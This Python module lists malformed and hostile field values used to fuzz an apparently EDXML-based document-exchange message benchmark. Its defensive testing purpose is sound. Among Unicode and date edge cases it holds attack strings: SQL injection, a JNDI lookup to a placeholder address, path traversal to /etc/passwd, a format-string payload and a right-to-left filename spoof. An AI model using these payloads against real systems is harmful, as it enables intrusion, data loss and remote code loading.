"""Values that fields and parameters are known to suffer from, by the kind of field.

They are put in by `benchmarks.message_mutations` and `benchmarks.message_cases`.
"""

from typing import Final

_LONG: Final = b"a" * 5000

TEXTS: Final = (
    *(b"", b" ", b"\xc2\xa0", b"\xe2\x80\x8b", b"a", b"a" * 300, _LONG, b"a" * 66_000, "Đ".encode() * 2500),
    *(
        "e\u0302\u0301".encode() * 300,
        "\ufdfa".encode() * 120,
        "\u0300\u0316".encode() * 15_000,
        b"\xef\xbb\xbf",
    ),
    *("\u202efdp.exe".encode(), "\u2028".encode(), "\x85".encode(), "\ufffd".encode(), "\U0010ffff".encode()),
    *(b"\xed\xa0\x80", b"\xc0\x80", b"\xff", b"\x00", b"&#0;", b"&#x85;", b"&#x7f;", b"&#13;&#10;&#9;"),
    *(b"&amp;lt;script&amp;gt;", b"' OR '1'='1", b'"; DROP TABLE documents; --', b"%s%n%x", b"{0.__class__}"),
    *(b"${jndi:ldap://192.0.2.1/a}", b"../../etc/passwd", b"null", b"NaN", b"true", b"[]", b"{}", b"\\u0000"),
)
CODES: Final = (
    *(b"000.00.00.G94", b"000.00.14.G94", b"000.00.00.H94", b"000.00.00.H95", b"000.00.00.H96", b"H94"),
    *(
        b"H94.14",
        b"000.00.00.Z99",
        b"000.00.00.h94",
        b" 000.00.00.H94 ",
        b"vxp.saas.03",
        b"01.02.G22",
        b"H95",
    ),
    *(b"000.00.00.H94,000.00.00.H95", b"000.00.00.H97", b"", b"-", b"." * 32, b"9" * 33, "Đ94".encode()),
)
DAYS: Final = (
    *(b"2027/01/15", b"2027-01-15", b"15/01/2027", b"2027/1/5", b"2027/02/30", b"0001/01/01", b"9999/12/31"),
    *(b"0000/00/00", b"10000/01/01", b"2027/01/15 09:30:00", b"2027-01-15T09:30:00+07:00", b"15012027"),
    *(b"2027-01-15T00:00:00.000000001Z", b"9999-12-31T23:59:59-12:00", b"0001-01-01T00:00:00+14:00"),
    *(
        b"2027/01/15 25:61:61",
        b"2027/13/01",
        b"today",
        b"1799971200",
        b"-1",
        "\uff12\uff10\uff12\uff17/01/15".encode(),
    ),
    *(b"2027/01/15 23:59:60", b"2027-W03-5", b"20270115T093000", b"2027/01/15T9:30", b"29/02/2027"),
)
NUMBERS: Final = (
    *(
        b"0",
        b"1",
        b"2",
        b"3",
        b"4",
        b"5",
        b"6",
        b"13",
        b"15",
        b"16",
        b"-1",
        b"01",
        b"02",
        b"03",
        b"04",
        b"06",
    ),
    *(b"1.0", b"1e3", b" 1 ", b"0x1", b"99", b"999999999", b"1000000000", b"9" * 400, b"\xd9\xa1", b"NaN"),
)
NAMES: Final = (
    *(b"a.pdf", b"../a.pdf", b"/etc/passwd", b"..\\a", b"C:\\a", b"..", b".", b"a/b", b"a\x01b", b"a&#10;b"),
    *("a\u202efdp.exe".encode(), b"a" * 255, b"a" * 256, "ế".encode() * 90, "e\u0302\u0301.txt".encode()),
    *(b"a.p7s", b"217-SGD-VP.pdf.p7s", b"a.p7m", b"a.zip", b"a.xml", b"manifest.json", b"message.edxml"),
    *(b"CON", b"a.", b".a", b" a.txt ", b"a.txt", b"%2e%2e%2fa", b"a" * 240 + b".pdf" * 3, b"~", b"a:b"),
)
IDS: Final = (
    *(b"cid:1", b"1", b"cid:cid:1", b"CID:1", b"cid: 1", b"cid:2", b"2", b"cid:", b"", b"cid:3", b"3"),
    *(b"cid:" * 60 + b"1", b"1 ", "cid:\u200b1".encode()),
)
DOCUMENT_IDS: Final = (
    *(b"000.00.00.G94,2027/01/15,1/SGD-VP", b"000.00.00.G94,2027/01/15,2/SGD-VP", b"a" * 255, b"a" * 256),
    *(b"000.00.00.H94,2027/01/15,1/SGD-VP", b"000.00.00.G94,2027/02/30,1/SGD-VP", b",,", b"a,2027/01/15,b"),
    *(b"H94,2027-1-5,1/A", b"000.00.00.G94,2027/01/15,", b"000.00.00.G94, 2027/01/15 ,1", b"*", b"%"),
    *(b"00000000-0000-4000-8000-000000000000", b"ffffffff-ffff-ffff-ffff-ffffffffffff", b""),
    "000.00.00.G94,2027/01/15,1/Đ".encode(),
)
NUMERALS: Final = (b"1/SGD-VP", b"2/SGD-VP", b"/", b"//", b"1", b"1/", b"/SGD", b"1/SGD-VP/X", b"a" * 101)
HOSTILE: Final = (TEXTS, CODES, DAYS, NUMBERS, NAMES, IDS, DOCUMENT_IDS, NUMERALS)

_BY_FIELD: Final = {
    "OrganId": CODES,
    "PromulgationDate": DAYS,
    "DueDate": DAYS,
    "Timestamp": DAYS,
    "BussinessDocType": NUMBERS,
    "ReceiverType": NUMBERS,
    "Priority": NUMBERS,
    "SteeringType": NUMBERS,
    "StatusCode": NUMBERS,
    "Paper": NUMBERS,
    "PageAmount": NUMBERS,
    "PromulgationAmount": NUMBERS,
    "Type": NUMBERS,
    "TypeDetail": NUMBERS,
    "Direction": NUMBERS,
    "AttachmentName": NAMES,
    "ContentId": IDS,
    "DocumentId": DOCUMENT_IDS,
    "Code": NUMERALS,
    "CodeNumber": NUMERALS,
    "CodeNotation": NUMERALS,
    "to": CODES,
    "from": CODES,
    "AgencyCode": CODES,
    "systemid": CODES,
    "docId": DOCUMENT_IDS,
    "docid": DOCUMENT_IDS,
    "fromDate": DAYS,
    "toDate": DAYS,
    "timestamp": DAYS,
    "level": NUMBERS,
    "code": CODES,
    "pcode": CODES,
    "id": CODES,
}


def values_for(field: str) -> tuple[bytes, ...]:
    """Return the values for a field's kind; texts where it has none of its own."""
    return _BY_FIELD.get(field, TEXTS)
